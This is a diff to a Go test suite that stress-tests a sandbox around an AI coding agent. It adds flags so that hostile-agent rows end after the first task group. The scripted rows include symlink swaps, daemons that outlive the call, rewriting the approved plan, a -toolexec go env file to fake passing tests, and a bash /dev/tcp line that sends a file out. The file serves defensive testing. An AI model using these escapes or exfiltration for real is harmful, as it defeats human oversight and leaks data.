@@ -42,6 +42,20 @@ type hostileRow struct {
 	// must end returned (a row about what the boundary lets a command do
 	// needs no three groups of work after it).
 	returned bool
+	// groupOne: the row's hostile code runs in group 1 (the agent's step,
+	// then, planted in the tree, the group's verify commands and its
+	// fail-to-pass on a second boundary); the agent then gives the item
+	// back (plan_wrong) at group 2's first turn, so the Job must end
+	// returned with group 1 passed and pushed. Groups 2 and 3 and the
+	// ready path would run the same code in the same kinds of boundary
+	// again: the rows that are about the whole Job (a second boundary,
+	// comments, roadmap's own git, the archive) and TestIsolation still
+	// run it to its end.
+	groupOne bool
+	// planOneGroup: the row is about a whole Job, to its end, but not about
+	// how many groups it has: its world's plan is cut to group 1
+	// (oneGroupPlan).
+	planOneGroup bool
 	// check asserts what the row is about, after the Job.
 	check func(t *testing.T, x *rowEnv, res implement.Result, jobLog string)
 }
@@ -112,7 +126,8 @@ git -C sub -c user.name=m -c user.email=m@example.com commit -qm x`)
 		stopped: "nested",
 	},
 	{
-		name: "file tools under a path swap",
+		name:     "file tools under a path swap",
+		groupOne: true,
 		agent: func(x *rowEnv) []map[string]any {
 			// A process left behind swaps notes.txt between a file and a
 			// symlink to a root-only file while the file tools use it.
@@ -134,7 +149,8 @@ sleep 0.2`)
 		},
 	},
 	{
-		name: "hand-over walk under a swap",
+		name:     "hand-over walk under a swap",
+		groupOne: true,
 		agent: func(x *rowEnv) []map[string]any {
 			// A folder of the tree swapped for a symlink to a folder of the
 			// runner's, over and over, for the walk that hands the tree back.
@@ -149,7 +165,8 @@ sleep 0.2`)
 		},
 	},
 	{
-		name: "symlink for the archive",
+		name:         "symlink for the archive",
+		planOneGroup: true,
 		agent: func(x *rowEnv) []map[string]any {
 			// An allowed git apply makes the spec the archive writes a
 			// symlink to a file of the runner's choosing.
@@ -168,7 +185,8 @@ sleep 0.2`)
 		},
 	},
 	{
-		name: "processes that outlive the call",
+		name:     "processes that outlive the call",
+		groupOne: true,
 		agent: func(x *rowEnv) []map[string]any {
 			// A daemon in a session of its own, with no RUNNER_TRACKING_ID,
 			// holding a descriptor on a file it keeps writing.
@@ -189,7 +207,8 @@ sleep 0.2`)
 		},
 	},
 	{
-		name: "configuration in the PR's tree",
+		name:     "configuration in the PR's tree",
+		groupOne: true,
 		agent: func(x *rowEnv) []map[string]any {
 			// The change says it needs no isolation and any command: the
 			// checks of its PR must not believe it.
@@ -238,7 +257,8 @@ sleep 0.2`)
 		},
 	},
 	{
-		name: "network",
+		name:     "network",
+		groupOne: true,
 		setup: func(t *testing.T, x *rowEnv) {
 			l, err := net.Listen("tcp", "127.0.0.1:0")
 			if err != nil {
@@ -269,7 +289,8 @@ bash -c 'cat README.md > /dev/tcp/` + host + `/` + port + `' ; true`)
 		},
 	},
 	{
-		name: "comments by other people",
+		name:         "comments by other people",
+		planOneGroup: true,
 		setup: func(t *testing.T, x *rowEnv) {
 			// A drive-by ledger entry that spends the day's budget on the
 			// dashboard, and a comment that carries the marker of the one
@@ -298,7 +319,8 @@ bash -c 'cat README.md > /dev/tcp/` + host + `/` + port + `' ; true`)
 		},
 	},
 	{
-		name: "rewriting the approved plan",
+		name:     "rewriting the approved plan",
+		groupOne: true,
 		agent: func(x *rowEnv) []map[string]any {
 			return []map[string]any{call("write_file", map[string]string{"path": "openspec/changes/add-greetings/tasks.md",
 				"content": "## 1. Hello\n\n- [ ] 1.1 nothing\n  - verify: `true`\n"})}
@@ -317,7 +339,8 @@ bash -c 'cat README.md > /dev/tcp/` + host + `/` + port + `' ; true`)
 		},
 	},
 	{
-		name: "a go env file in the sandbox's HOME",
+		name:     "a go env file in the sandbox's HOME",
+		groupOne: true,
 		agent: func(x *rowEnv) []map[string]any {
 			// -toolexec in the go env file would run this script for every
 			// later go command and could make any test pass.
@@ -388,7 +411,8 @@ printf 'GOFLAGS=-toolexec=%s/tx.sh\n' "$PWD" > "$HOME/.config/go/env"`)
 // own route is closed; every row asserts the canaries (in every encoded
 // form) appear nowhere, nothing planted ran as the runner, and the Job ended
 // as the row says: ready (every group's verify commands passed behind the
-// boundary) or stopped for the row's reason.
+// boundary), returned at group 2 with group 1 passed (groupOne: group 1's
+// verify commands passed behind it), or stopped for the row's reason.
 func TestHostileAgent(t *testing.T) {
 	if runtime.GOOS != "linux" || os.Geteuid() != 0 {
 		t.Skip("the boundary needs root on Linux; the test machines and CI run as root")
@@ -432,10 +456,16 @@ func runHostileRow(t *testing.T, bin string, i int, row hostileRow) {
 			t.Fatal(err)
 		}
 	}
+	if row.planOneGroup {
+		oneGroupPlan(t, h.w, h.ws)
+	}
 	if row.setup != nil {
 		row.setup(t, x)
 	}
 	h.writeRowFixture(t, row.agent(x))
+	if row.groupOne {
+		h.returnAtGroupTwo(t)
+	}
 
 	h.w.OnModelRequest(func(body []byte) {
 		h.mu.Lock()
@@ -466,6 +496,11 @@ func runHostileRow(t *testing.T, bin string, i int, row hostileRow) {
 	switch {
 	case row.name == "model text in a comment":
 		// its check says what it wants
+	case row.groupOne:
+		if res.Result != record.ResultReturned || res.Group != 1 || !strings.Contains(res.Reason, groupOneDone) {
+			t.Errorf("the Job ended %s at group %d (%s: %s), want returned by the agent at group 2 with group 1 passed: "+
+				"group 1's verify commands must pass behind the boundary\n%s", res.Result, res.Group, res.Failure, res.Reason, tail(jobLog, 3000))
+		}
 	case row.returned:
 		if res.Result != record.ResultReturned {
 			t.Errorf("the Job ended %s (%s: %s), want returned: the row's agent ends with plan_wrong\n%s",
@@ -520,6 +555,29 @@ func (h *hostile) writeRowFixture(t *testing.T, hostileTurns []map[string]any) {
 		t.Fatal(err)
 	}
 	if err := os.WriteFile(filepath.Join(h.fixtures, "group-1-hostile.json"), out, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	replay, err := llm.LoadReplay(h.fixtures)
+	if err != nil {
+		t.Fatal(err)
+	}
+	h.w.Replay = replay
+}
+
+// groupOneDone is the reason the agent of a groupOne row gives at group 2.
+const groupOneDone = "the hostile row is done after group 1"
+
+// returnAtGroupTwo has the agent give the item back at group 2's first
+// turn: a conversation for group 2 named to sort before the demo's, which
+// the replay serves first.
+func (h *hostile) returnAtGroupTwo(t *testing.T) {
+	t.Helper()
+	out, err := json.MarshalIndent(map[string]any{"comment": "A row of TestHostileAgent that ends after group 1.",
+		"source": "hand", "match": "task group 2 of", "turns": []map[string]any{call("plan_wrong", map[string]string{"reason": groupOneDone})}}, "", " ")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(h.fixtures, "group-2-a-return.json"), out, 0o644); err != nil {
 		t.Fatal(err)
 	}
 	replay, err := llm.LoadReplay(h.fixtures)
